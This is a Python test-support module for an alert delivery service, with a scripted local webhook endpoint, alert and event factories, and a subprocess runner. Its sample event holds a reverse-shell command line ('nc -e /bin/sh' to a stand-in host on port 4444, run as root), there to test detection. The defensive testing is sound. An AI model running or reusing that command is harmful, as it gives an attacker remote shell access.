"""Helpers of the delivery and notifier tests: a scripted HTTP endpoint, alerts, clocks.

``ScriptedEndpoint`` is a real ``ThreadingHTTPServer`` on 127.0.0.1 (port 0) whose
answers are scripted: a status (200, 201, 202, 204, 400, 410, 429 + Retry-After, 500,
...), a body, or ``HANG`` (hold the request without answering until released). It
records every request, and counts ``webhook-id`` values, so a test can prove that
every alert arrived and none twice.
"""

from __future__ import annotations

import json
import logging
import signal
import sys
import threading
import time
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import MappingProxyType
from typing import Any

from alerts_support import FakeClock

from alert_service.config import load_config
from alert_service.deliver import ScaledClock, build_delivery_service
from alert_service.logs import configure_logging, log_event
from alert_service.match import Alert, alert_id
from alert_service.parse import Event

__all__ = [
    "HANG",
    "Answer",
    "FakeClock",
    "Request",
    "ScriptedEndpoint",
    "make_alert",
    "make_event",
    "serve_endpoint",
]

HANG = -1
"""Script entry: keep the request open until ``endpoint.release`` is set."""


@dataclass
class Request:
    """One request the endpoint got."""

    path: str
    headers: dict[str, str]
    body: bytes
    status: int

    def json(self) -> Any:
        return json.loads(self.body.decode("utf-8"))


@dataclass
class Answer:
    """One scripted answer."""

    status: int = 200
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b"ok"


@dataclass
class ScriptedEndpoint:
    """Answers from ``script`` in order, then ``default``; ``down`` refuses with 503."""

    url: str = ""
    script: list[Answer] = field(default_factory=list)
    default: Answer = field(default_factory=Answer)
    requests: list[Request] = field(default_factory=list)
    release: threading.Event = field(default_factory=threading.Event)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def answer(self, *answers: Answer | int) -> None:
        with self.lock:
            self.script.extend(a if isinstance(a, Answer) else Answer(a) for a in answers)

    def accepted(self) -> list[Request]:
        """Requests answered with a 2xx."""
        with self.lock:
            return [r for r in self.requests if 200 <= r.status < 300]

    def webhook_ids(self) -> Counter[str]:
        """``webhook-id`` → how many 2xx requests carried it."""
        return Counter(r.headers.get("webhook-id", "") for r in self.accepted())

    def wait_for(self, count: int, timeout_secs: float = 10.0, accepted: bool = False) -> int:
        deadline = time.monotonic() + timeout_secs
        while True:
            with self.lock:
                n = len([r for r in self.requests if not accepted or 200 <= r.status < 300])
            if n >= count or time.monotonic() >= deadline:
                return n
            time.sleep(0.01)


@contextmanager
def serve_endpoint() -> Iterator[ScriptedEndpoint]:
    """Run a :class:`ScriptedEndpoint` on 127.0.0.1 until the block ends."""
    state = ScriptedEndpoint()

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self) -> None:
            length = int(self.headers.get("Content-Length", "0"))
            body = self.rfile.read(length)
            with state.lock:
                answer = state.script.pop(0) if state.script else state.default
            if answer.status == HANG:
                state.release.wait(30)
                with state.lock:
                    state.requests.append(Request(self.path, dict(self.headers), body, HANG))
                self.close_connection = True
                return
            with state.lock:
                state.requests.append(
                    Request(self.path, dict(self.headers.items()), body, answer.status)
                )
            try:
                self.send_response(answer.status)
                for key, value in answer.headers.items():
                    self.send_header(key, value)
                self.send_header("Content-Length", str(len(answer.body)))
                self.end_headers()
                self.wfile.write(answer.body)
            except (BrokenPipeError, ConnectionResetError):
                pass

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    state.url = f"http://127.0.0.1:{server.server_address[1]}/hook"
    try:
        yield state
    finally:
        state.release.set()
        server.shutdown()
        server.server_close()
        thread.join(5)


def make_event(
    *,
    host: str = "web-01",
    counter: int = 3,
    action: str = "added",
    decorations: dict[str, str] | None = None,
    **columns: str | int | None,
) -> Event:
    cols: dict[str, str | int | None] = {
        "pid": 901,
        "family": 2,
        "protocol": 6,
        "local_address": "10.0.0.5",
        "local_port": 40001,
        "remote_address": "198.51.100.7",
        "remote_port": 4444,
        "direction": "outbound",
        "community_id": "1:LQU9qZlK+B5F3KDmev6m5PMibrg=",
        "name": "nc",
        "path": "/usr/bin/nc",
        "cmdline": "nc -e /bin/sh 198.51.100.7 4444",
        "uid": 0,
        "username": "root",
    }
    cols.update(columns)
    cols = {k: v for k, v in cols.items() if v != "<drop>"}
    return Event(
        name="pack_tracked_connections_tracked_connections",
        pack="tracked_connections",
        query="tracked_connections",
        host_identifier=host,
        calendar_time="Tue Sep  2 07:05:09 2025 UTC",
        unix_time=1756796709,
        epoch=0,
        counter=counter,
        action=action,  # type: ignore[arg-type]
        columns=MappingProxyType(cols),
        decorations=MappingProxyType(
            {"hostname": "web-01.example.com"} if decorations is None else decorations
        ),
    )


def make_alert(
    rule: str = "reverse-shell", notify: tuple[str, ...] = ("hook",), **kw: Any
) -> Alert:
    event = make_event(**kw)
    return Alert(alert_id(event), rule, notify, event)


def run_delivery(config_path: str, state_path: str, time_scale: float) -> int:
    """Run only the delivery service of ``config_path`` on a compressed clock until SIGTERM.

    Used by the outage test as a real subprocess (``python deliver_support.py ...``):
    the same :func:`build_delivery_service` and workers as ``run``, with a
    :class:`ScaledClock` so minutes of backoff pass in seconds.
    """
    config = load_config(config_path)
    configure_logging(config.log_level)
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda signum, frame: stop.set())
    service = build_delivery_service(config, state_path, clock=ScaledClock(time_scale))
    service.start()
    log_event(logging.getLogger("alert_service.test"), logging.INFO, "delivery_started")
    stop.wait()
    service.stop()
    return 0


if __name__ == "__main__":
    sys.exit(run_delivery(sys.argv[1], sys.argv[2], float(sys.argv[3])))
